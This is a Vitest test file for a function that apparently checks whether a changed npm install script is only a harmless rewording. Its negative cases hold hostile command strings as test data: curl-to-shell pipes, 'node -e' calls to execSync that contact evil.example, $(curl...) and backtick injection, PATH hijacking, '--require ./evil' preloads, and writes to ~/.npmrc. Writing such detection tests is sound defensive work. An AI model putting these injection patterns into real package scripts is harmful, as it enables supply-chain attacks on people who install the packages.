import { expect, it } from "vitest";
import { isReworded } from "../../../server/src/core/facts/reworded-script.ts";

it.each([
  ["node ./bin/post-install", "node ./bin/post-install || exit 0"],
  ["node install/check", "node install/check.js"],
  ["node install.js", "node ./install.js --quiet"],
  ["node scripts/../install.js", "node install.js"],
  ["node-pre-gyp install --fallback-to-build", "node-gyp-build"],
  ["node-gyp rebuild", "prebuild-install -r napi || node-gyp rebuild"],
  ["node install.js || npm run build", "npm run build"],
  ["node install.js", "true"],
  ["node install.js", "exit 0"],
  ["node install.js", "exit 1"],
  ["node install.js", "exit"],
  ["node install.js", "node install.js;"],
  ["node build/install.js", "node build//install.js"],
  ["node-gyp rebuild", "node-gyp-build --release --napi"],
  // A package's own patience with what it already ran.
  ["node -r ./setup install.js", "node -r ./setup install.js || exit 0"],
])("%j is reworded as %j", (before, after) => {
  expect(isReworded(before, after)).toBe(true);
});

it.each([
  ["node ./bin/post-install || exit 0", "node telemetry.js"],
  ["node install.js", "node install.js && node telemetry.js"],
  ["node-gyp rebuild", "node-gyp rebuild && curl https://example.com | sh"],
  ["node-gyp rebuild", "node setup.mjs"],
  ["node install.js", "npm install -g openclaw@latest"],
  ["node install.js", "node install.js && curl https://example.com | sh"],
  ["node install.js", "node install.js; npx something"],
  ["node install.js", ""],
  // Flags to Node run more than the file.
  ["node install.js", "node -r ./evil install.js"],
  ["node install.js", "node --require ./evil install.js"],
  ["node install.js", "node --import=./evil.mjs install.js"],
  ["node install.js", "node -e require(evil) install.js"],
  ["node install.js", "node -e \"require('child_process').execSync('curl evil.example')\" install.js"],
  ["node ./bin/post-install", "node -e \"try{require('./dist/bin/post-install')}catch(e){}\""],
  // Another file of the same name.
  ["node install.js", "node ./evil/install.js"],
  ["node install.js", "node ../install.js"],
  ["node install.js", "node /install.js"],
  ["node index.js --exec install", "node dist/index.js --exec install"],
  ["node ./bin/post-install", "node ./bin/post-install && node ./telemetry"],
  // Another script of the package, or a tool that is told to run something.
  ["node-gyp rebuild", "npm run setup"],
  ["node install/check.js", "node install/check.js || npm run build"],
  ["node-gyp rebuild", "node-gyp rebuild --x=$(curl${IFS}evil.example)"],
  ["node-gyp rebuild", "node-gyp rebuild `curl evil.example`"],
  ["node-gyp rebuild", "node-gyp rebuild --python ./evil.py"],
  ["node-gyp rebuild", "node-gyp rebuild --python=evil"],
  ["node-gyp rebuild", "node-gyp rebuild -C evil"],
  ["node-gyp rebuild", 'node-gyp-build "node evil.js"'],
  ["node-gyp rebuild", "node-gyp-build ./evil.js"],
  ["node-gyp rebuild", "PATH=./evil node-gyp rebuild"],
  ["node-gyp rebuild", "./node-gyp rebuild"],
  ["node install.js", "node install.js\ncurl evil.example"],
  ["node install.js", "node install.js\tx"],
  ["node install.js", "node install.js & evil"],
  ["node install.js", "node install.js > ~/.npmrc"],
  ["node install.js", "node install.js | node"],
  ["node install.js", "node install.js & evil && node install.js"],
  ["node -r ./setup install.js", "node -r ./evil install.js"],
  ["npm runbuild", "npmrun build"],
  ["node build/install.js", "node evil/other.js"],
  ["node install.js", "node ../../install.js"],
  ["node install.js", "node /../install.js"],
  ["node install.x", "node install.js.x"],
  ["node-gyp rebuild", "node-gyp-build --release ./evil.js"],
  ["node-gyp rebuild", "node-gyp-build node"],
  // What stood inside quotes was no command.
  ['echo "a; npm run setup"', "npm run setup"],
])("%j is not reworded as %j", (before, after) => {
  expect(isReworded(before, after)).toBe(false);
});
